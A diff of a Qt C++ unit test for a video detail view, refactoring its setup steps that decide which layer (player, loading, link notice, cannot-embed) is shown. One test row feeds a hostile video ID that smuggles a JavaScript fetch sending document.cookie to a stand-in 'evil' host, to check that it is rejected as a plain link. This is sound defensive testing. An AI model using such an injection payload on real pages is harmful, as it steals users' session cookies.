@@ -65,9 +65,6 @@ const QString kYouTubeID = QStringLiteral("dQw4w9WgXcQ");
 
 } // namespace
 
-using PaneSetup = std::function<void(Pane &)>;
-Q_DECLARE_METATYPE(PaneSetup)
-
 class MacDetailViewTest : public QObject
 {
     Q_OBJECT
@@ -75,66 +72,59 @@ class MacDetailViewTest : public QObject
 private Q_SLOTS:
     void initTestCase() { Fonts::load(); }
 
+    // Each row sets the pane up by steps: "browse", "video ID", "load 0|1" (autoplay), "error CODE",
+    // "state STATE".
     void layers_data()
     {
-        QTest::addColumn<PaneSetup>("setup");
+        QTest::addColumn<QString>("setup");
         QTest::addColumn<MacDetailView::Layer>("layer");
         QTest::addColumn<bool>("playerShown");
         QTest::addColumn<bool>("panelShown");
-
+        const auto row = [](const char *name, const char *setup, MacDetailView::Layer layer, bool player, bool panel) {
+            QTest::newRow(name) << QString::fromUtf8(setup) << layer << player << panel;
+        };
         using L = MacDetailView::Layer;
-        QTest::newRow("no video") << PaneSetup([](Pane &) {}) << L::empty << false << false;
-        QTest::newRow("x- record") << PaneSetup([](Pane &p) { p.view.setVideo(record(u"x-1712345678"_qs)); })
-                                   << L::linkNotice << false << true;
-        QTest::newRow("hostile ID is a link")
-            << PaneSetup([](Pane &p) { p.view.setVideo(record(u"a');fetch('//evil/'+document.cookie);('"_qs)); })
-            << L::linkNotice << false << true;
-        QTest::newRow("embeddable, idle")
-            << PaneSetup([](Pane &p) { p.view.setVideo(record(kYouTubeID)); }) << L::player << true << true;
-        QTest::newRow("loading") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, false);
-        }) << L::loading << true << true;
-        QTest::newRow("cannot embed") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-            p.player().handleError(150);
-        }) << L::cannotEmbed << true << true;
-        QTest::newRow("loaded") << PaneSetup([](Pane &p) {
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-            p.player().handleState(1);
-        }) << L::player << true << true;
-        QTest::newRow("error on an x- record shows the link notice") << PaneSetup([](Pane &p) {
-            p.player().handleError(150);
-            p.view.setVideo(record(u"x-1712345678"_qs));
-        }) << L::linkNotice << false << true;
-        QTest::newRow("browse mode, loading") << PaneSetup([](Pane &p) {
-            p.state.setBrowsing(true);
-            p.view.setVideo(record(kYouTubeID));
-            p.player().load(kYouTubeID, true);
-        }) << L::loading << true << true;
+        row("no video", "", L::empty, false, false);
+        row("x- record", "video x-1712345678", L::linkNotice, false, true);
+        row("hostile ID is a link", "video a');fetch('//evil/'+document.cookie);('", L::linkNotice, false, true);
+        row("embeddable, idle", "video dQw4w9WgXcQ", L::player, true, true);
+        row("loading", "video dQw4w9WgXcQ, load 0", L::loading, true, true);
+        row("cannot embed", "video dQw4w9WgXcQ, load 1, error 150", L::cannotEmbed, true, true);
+        row("loaded", "video dQw4w9WgXcQ, load 1, state 1", L::player, true, true);
+        row("error on an x- record shows the link notice", "error 150, video x-1712345678", L::linkNotice, false, true);
+        row("browse mode, loading", "browse, video dQw4w9WgXcQ, load 1", L::loading, true, true);
     }
 
     void layers()
     {
-        QFETCH(PaneSetup, setup);
+        QFETCH(QString, setup);
         QFETCH(MacDetailView::Layer, layer);
         QFETCH(bool, playerShown);
         QFETCH(bool, panelShown);
         Pane pane;
-        setup(pane);
+        for (const QString &step : setup.split(u", "_qs, Qt::SkipEmptyParts)) {
+            const QString verb = step.section(u' ', 0, 0);
+            const QString value = step.section(u' ', 1);
+            if (verb == u"browse")
+                pane.state.setBrowsing(true);
+            else if (verb == u"video")
+                pane.view.setVideo(record(value));
+            else if (verb == u"load")
+                pane.player().load(kYouTubeID, value == u"1");
+            else if (verb == u"error")
+                pane.player().handleError(value.toInt());
+            else
+                pane.player().handleState(value.toInt());
+        }
         pane.view.show();
         QCOMPARE(pane.view.layer(), layer);
         QCOMPARE(pane.view.player().isVisible(), playerShown);
         QCOMPARE(pane.view.infoPanel().isVisible(), panelShown);
         // Exactly one notice or covering layer (or none over a plain player) is on show.
-        const auto shown = [&pane](const QString &text) {
-            for (const QLabel *label : pane.view.findChildren<QLabel *>()) {
-                if (label->text() == text && label->isVisible())
-                    return true;
-            }
-            return false;
+        const auto labels = pane.view.findChildren<QLabel *>();
+        const auto shown = [&labels](const QString &text) {
+            return std::any_of(labels.begin(), labels.end(),
+                               [&text](const QLabel *label) { return label->text() == text && label->isVisible(); });
         };
         QCOMPARE(shown(u"Pick a video from the list"_qs), layer == MacDetailView::Layer::empty);
         QCOMPARE(shown(u"This entry isn't a standard YouTube link."_qs), layer == MacDetailView::Layer::linkNotice);
